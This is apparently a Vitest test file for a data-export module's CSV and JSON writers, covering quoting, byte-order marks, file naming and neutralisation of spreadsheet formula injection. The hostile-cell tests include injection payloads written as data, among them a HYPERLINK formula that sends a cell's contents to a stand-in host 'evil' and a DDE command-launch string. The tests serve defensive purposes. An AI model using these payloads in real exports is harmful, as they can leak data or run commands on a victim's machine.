import { describe, expect, it } from 'vitest';
import { UTF8_BOM } from '../../lib/csv.ts';
import { exportFileName, toCsv, toJson } from './export.ts';

describe('toCsv', () => {
  it('writes a header and quotes what needs quoting', () => {
    const rows = [
      { name: 'plain', note: 'has, comma', n: 3, ok: true },
      { name: 'quote "x"', note: 'line\nbreak', n: null, ok: false },
    ];
    expect(toCsv(rows, ['name', 'note', 'n', 'ok'])).toBe(
      UTF8_BOM + 'name,note,n,ok\r\nplain,"has, comma",3,true\r\n"quote ""x""","line\nbreak",,false\r\n',
    );
  });
  it('writes arrays and objects as JSON and missing keys as empty', () => {
    expect(toCsv([{ projects: ['a', 'b'], json: { k: 1 } }], ['projects', 'json', 'absent'])).toBe(
      UTF8_BOM + 'projects,json,absent\r\n"[""a"",""b""]","{""k"":1}",\r\n',
    );
  });
});

describe('toCsv with hostile cells', () => {
  it('starts with a UTF-8 byte-order mark', () => {
    const csv = toCsv([{ name: 'Müller' }], ['name']);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it.each([
    ['=HYPERLINK("http://evil/?"&A1,"x")', '"\'=HYPERLINK(""http://evil/?""&A1,""x"")"'],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['=1,2', '"\'=1,2"'],
    ['a=1', 'a=1'],
    ['', ''],
  ])('neutralises %j as %j', (cell, expected) => {
    expect(toCsv([{ cell }], ['cell'])).toBe(`${UTF8_BOM}cell\r\n${expected}\r\n`);
  });

  it('keeps numbers and booleans as they are and neutralises hostile column names', () => {
    expect(toCsv([{ '=cmd': -3, ok: false }], ['=cmd', 'ok'])).toBe(`${UTF8_BOM}'=cmd,ok\r\n-3,false\r\n`);
  });

  it('writes nested values as JSON, neutralising none of their inner text', () => {
    expect(toCsv([{ json: { f: '=1' }, list: ['-1'] }], ['json', 'list'])).toBe(
      `${UTF8_BOM}json,list\r\n"{""f"":""=1""}","[""-1""]"\r\n`,
    );
  });
});

describe('toJson', () => {
  it('round-trips the rows', () => {
    const rows = [{ id: 'x', n: 1 }];
    expect(JSON.parse(toJson(rows))).toEqual(rows);
  });
});

describe('exportFileName', () => {
  it('names the file after endpoint and query', () => {
    expect(exportFileName('sessions', new URLSearchParams('subject=KS005&limit=250&offset=250'), 'csv')).toBe(
      'sessions-subject-KS005-offset-250.csv',
    );
    expect(exportFileName('datasets', new URLSearchParams('django=name__icontains,spikes'), 'json')).toBe(
      'datasets-django-name__icontains_spikes.json',
    );
  });
});
